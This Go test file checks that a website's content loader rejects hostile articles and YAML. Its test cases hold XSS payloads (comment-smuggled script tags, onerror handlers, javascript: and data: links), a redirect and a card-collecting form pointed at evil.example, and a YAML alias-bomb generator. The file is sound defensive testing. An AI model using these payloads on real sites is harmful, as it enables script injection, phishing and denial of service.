package content

import (
	"strings"
	"testing"
	"testing/fstest"
)

// hostileFront is the front matter of a good article, the body on line 9.
const hostileFront = "---\ntitle: T\ndescription: D.\ndate: 2026-01-01\nauthor: ana\ntags: [voice-ai]\ncover: {src: /images/articles/voice.svg, alt: A circle}\n---\n"

// billionLaughs is layout.yaml's phone menu holding a group of n links,
// repeated n times through aliases: n*n links from a few KB.
func billionLaughs(layout string, n int) string {
	var b strings.Builder
	b.WriteString("  mobileGroups:\n    - &g\n      label: G\n      items:\n        - &l {label: L, href: /about}\n")
	for range n - 1 {
		b.WriteString("        - *l\n")
	}
	for range n - 1 {
		b.WriteString("    - *g\n")
	}
	start := strings.Index(layout, "  mobileGroups:\n")
	end := strings.Index(layout, "  contactLabel:")
	return layout[:start] + b.String() + layout[end:]
}

// TestHostileText: content written to attack the site or the build is
// refused, each problem where it is written and saying what to do.
func TestHostileText(t *testing.T) {
	article := func(body string) func(fstest.MapFS) {
		return func(fsys fstest.MapFS) {
			fsys["articles/x.md"] = &fstest.MapFile{Data: []byte(hostileFront + body)}
		}
	}
	front := func(old, new string) func(fstest.MapFS) {
		return func(fsys fstest.MapFS) {
			fsys["articles/x.md"] = &fstest.MapFile{Data: []byte(strings.Replace(hostileFront, old, new, 1) + "Body.\n")}
		}
	}
	edit := func(file string, f func(string) string) func(fstest.MapFS) {
		return func(fsys fstest.MapFS) {
			fsys[file] = &fstest.MapFile{Data: []byte(f(string(fsys[file].Data)))}
		}
	}
	replace := func(file, old, new string) func(fstest.MapFS) {
		return edit(file, func(s string) string {
			if !strings.Contains(s, old) {
				t.Fatalf("%s has no %q", file, old)
			}
			return strings.Replace(s, old, new, 1)
		})
	}
	for _, tc := range []struct {
		name string
		edit func(fstest.MapFS)
		// want is "file:line:col: " and a part of the message.
		want string
	}{
		// Raw HTML in articles: comments that open the filter.
		{"comment then script", article("Intro.\n\n<!-- note --><script src=\"/images/notes.js\"></script>\n"), `articles/x.md:11:1: raw HTML "<!-- note --><script`},
		{"comment then meta refresh", article("<!-- --><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">\n"), `articles/x.md:9:1: raw HTML "<!-- --><meta`},
		{"comment then form", article("<!-- --><form action=\"https://evil.example/\"><input name=card></form>\n"), `articles/x.md:9:1: raw HTML "<!-- --><form`},
		{"inline comment closed by --!>", article("Text <!-- a --!><img src=x onerror=alert(1)> --> more.\n"), `articles/x.md:9:6: raw HTML "<!-- a --!><img`},
		{"inline comment closed at once", article("Text <!--><img src=x onerror=alert(1)>--> more.\n"), `articles/x.md:9:6: raw HTML "<!-->"`},
		{"comment over lines then markup", article("Intro.\n\n<!--\nnote\n--><img src=x onerror=alert(1)>\n"), `articles/x.md:11:1: raw HTML "<!--\nnote\n--><img`},
		{"comment closed by --!> in a heading", article("Intro.\n\n## Why <!-- x --!><img src=x onerror=alert(1)> -->\n"), `articles/x.md:11:8: raw HTML "<!-- x --!><img`},
		{"comment closed by --!> in a table cell", article("| a | b |\n|---|---|\n| <!-- --!><svg onload=alert(1)> --> | 2 |\n"), `articles/x.md:11:3: raw HTML "<!-- --!><svg`},
		{"comment then iframe in a list", article("- one\n- <!-- x --><iframe src=\"https://evil.example/\"></iframe>\n"), `articles/x.md:10:3: raw HTML "<!-- x --><iframe`},
		{"allowed element with a handler", article("Press <kbd onclick=\"alert(1)\">K</kbd>.\n"), `articles/x.md:9:7: raw HTML "<kbd onclick`},
		// Links in Markdown: at the link, whatever the spelling.
		{"javascript: as a character reference", article("Read [b](jav&#x61;script:alert(1)) now.\n"), `articles/x.md:9:6: link "javascript:alert(1)": a javascript: address is not allowed`},
		{"javascript: as an autolink", article("Intro.\n\nGo <javascript:alert(1)>.\n"), `articles/x.md:11:4: link "javascript:alert(1)"`},
		{"javascript: in a link reference", article("See [a][x].\n\n[x]: JavaScript:alert(1)\n"), `articles/x.md:9:5: link "JavaScript:alert(1)": a javascript: address`},
		{"data: link inside emphasis", article("Some *[b](data:text/html;base64,PHNjcmlwdD4=)* text.\n"), `articles/x.md:9:7: link "data:text/html;base64,PHNjcmlwdD4=": a data: address`},
		// Pages' Markdown: HTML was dropped without a word; now it is a problem too.
		{"script in a text page", edit("pages/legal/privacy.md", func(s string) string { return s + "\n<script>alert(1)</script>\n" }), `pages/legal/privacy.md:`},
		{"handler in a YAML markdown body", replace("pages/about.yaml", "    paragraphs: [To test pages.]\n", "    paragraphs: [To test pages.]\n  - kind: markdown\n    body: |\n      Hello <img src=x onerror=alert(1)> there.\n"), `pages/about.yaml:14:13: raw HTML "<img src=x onerror=alert(1)>" is not allowed in a page's text`},
		// YAML budgets.
		{"aliases expand a thousand-fold", edit("layout.yaml", func(s string) string { return billionLaughs(s, 400) }), `layout.yaml:419:7: the document expands to more than 100000 values (aliases such as *g count once per use)`},
		{"lists nested past the budget", front("tags: [voice-ai]", "tags: "+strings.Repeat("[", 100)+strings.Repeat("]", 100)), `articles/x.md:6:` + "71" + `: lists and mappings nest more than 64 deep here`},
		{"lists nested past yaml.v3's limit", front("title: T", "title: "+strings.Repeat("[", 20000)+strings.Repeat("]", 20000)), `articles/x.md:2:1: invalid YAML: exceeded max depth of 10000: flatten the data`},
		{"front matter too big", front("title: T\n", "title: T\n"+strings.Repeat("# padding the front matter with comments\n", 2000)), `articles/x.md:1601:1: the front matter passes 64 KB here`},
		{"article too big", article(strings.Repeat("A line of an article that goes on and on.\n", 13000)), `articles/x.md:12488:1: the file passes 512 KB here`},
		{"YAML file too big", edit("site.yaml", func(s string) string { return s + strings.Repeat("# a comment\n", 100000) }), `site.yaml:`},
		// Control characters.
		{"control characters in a title", front("title: T", `title: "a \x01 \x0b \e \x7f \uFFFE end"`), `articles/x.md:2:8: field "title": control character U+0001 at character 3 of the text: remove it`},
		{"direction override in a description", front("description: D.", "description: \"Pay \u202Eyrgna\""), `articles/x.md:3:14: field "description": invisible direction control U+202E`},
		{"escape in a page heading", replace("pages/about.yaml", "heading: Our mission", `heading: "Our \0 mission"`), `pages/about.yaml:10:14: field "sections[1].heading": control character U+0000`},
		{"control character in an article's text", article("Intro.\n\nSome \x1b[31mred\x1b[0m text.\n"), `articles/x.md:11:6: control character U+001B: remove it`},
		{"noncharacter in a collection", replace("collections/faq.yaml", "question: What are AI voice and text agents?", `question: "What are AI voice\uFDD0 and text agents?"`), `collections/faq.yaml:2:13: field "[0].question": noncharacter U+FDD0 at character 18`},
		// Problems at their place.
		{"bad tag at its item", front("tags: [voice-ai]", "tags: [voice-ai, Bad Tag]"), `articles/x.md:6:18: tag "Bad Tag" is not a slug`},
		{"updated before date at updated", front("date: 2026-01-01\n", "date: 2026-01-01\nupdated: 2025-01-01\n"), `articles/x.md:5:10: updated 2025-01-01 is before date 2026-01-01`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			fsys := fixtureSite(t)
			tc.edit(fsys)
			_, err := LoadWith(fsys, LoadOptions{Now: articlesNow})
			if err == nil {
				t.Fatal("loaded")
			}
			if !strings.Contains(err.Error(), tc.want) {
				t.Errorf("errors lack %q:\n%.2000s", tc.want, err)
			}
		})
	}
}

// Budgets refuse what is hostile, not what is merely written with care:
// a small alias, nesting a few levels deep, tabs and line breaks in text.
func TestWithinBudgets(t *testing.T) {
	fsys := fixtureSite(t)
	layout := string(fsys["layout.yaml"].Data)
	fsys["layout.yaml"].Data = []byte(billionLaughs(layout, 20))
	fsys["articles/x.md"] = &fstest.MapFile{Data: []byte(strings.Replace(hostileFront, "description: D.", "description: \"One\\ttwo\\nthree.\"", 1) + "Tab\there.\r\nAnd a Windows line.\r\n")}
	if _, err := LoadWith(fsys, LoadOptions{Now: articlesNow}); err != nil {
		t.Fatal(err)
	}
}
